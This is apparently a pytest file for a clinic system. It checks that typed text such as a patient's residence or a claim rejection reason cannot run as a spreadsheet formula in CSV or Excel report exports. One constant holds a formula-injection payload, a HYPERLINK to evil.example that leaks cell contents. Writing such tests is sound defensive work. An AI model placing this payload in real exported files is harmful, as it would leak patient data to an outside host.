"""Attacks through report files: text staff typed (a patient's residence,
SHA's rejection reason) that a spreadsheet would run as a formula when the
admin opens the CSV or Excel export."""

from __future__ import annotations

import csv
import io

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook

from clinic.clock import clinic_today
from clinic.enums import Role
from tests.central import MakeStaff, bearer, login
from tests.server.claims_helpers import claim_for, move, sha_visit
from tests.server.helpers import unique_name

pytestmark = pytest.mark.postgres

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'


def csv_cells(content: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in row]


def test_typed_text_never_becomes_a_formula_in_a_report_file(
    client: TestClient, make_staff: MakeStaff
) -> None:
    admin = bearer(login(client, make_staff(Role.ADMIN, branch_code=None)))
    patient = {
        "first_name": "Achieng",
        "last_name": unique_name(),
        "sex": "F",
        "residence": HOSTILE,
    }
    made = client.post("/api/patients", json=patient, headers=admin)
    assert made.status_code == 201, made.text
    assert (
        client.post(
            "/api/visits", json={"patient_id": made.json()["patient"]["id"]}, headers=admin
        ).status_code
        == 201
    )
    claim = claim_for(client, admin, sha_visit(client, admin)["visit_id"])
    for status in ("READY", "INVOICE_GENERATED"):
        assert move(client, admin, claim["id"], status).status_code == 200
    batch = client.post(
        "/api/claim-batches", json={"claim_ids": [claim["id"]], "period": "WEEKLY"}, headers=admin
    ).json()
    assert client.post(f"/api/claim-batches/{batch['id']}/submit", headers=admin).status_code == 200
    assert move(client, admin, claim["id"], "REJECTED", reason=HOSTILE).status_code == 200

    today = clinic_today().isoformat()
    for name in ("visits", "claims-ageing"):
        window = {"from": today, "to": today}
        as_csv = client.get(
            f"/api/reports/{name}", params={**window, "format": "csv"}, headers=admin
        )
        assert as_csv.status_code == 200, as_csv.text
        assert [c for c in csv_cells(as_csv.content) if "HYPERLINK" in c] == ["'" + HOSTILE], name
        as_xlsx = client.get(
            f"/api/reports/{name}", params={**window, "format": "xlsx"}, headers=admin
        )
        assert as_xlsx.status_code == 200, as_xlsx.text
        book = load_workbook(io.BytesIO(as_xlsx.content))
        typed = [
            cell
            for sheet in book.worksheets
            for row in sheet.iter_rows()
            for cell in row
            if "HYPERLINK" in str(cell.value)
        ]
        assert [(c.value, c.data_type) for c in typed] == [(HOSTILE, "s")], name
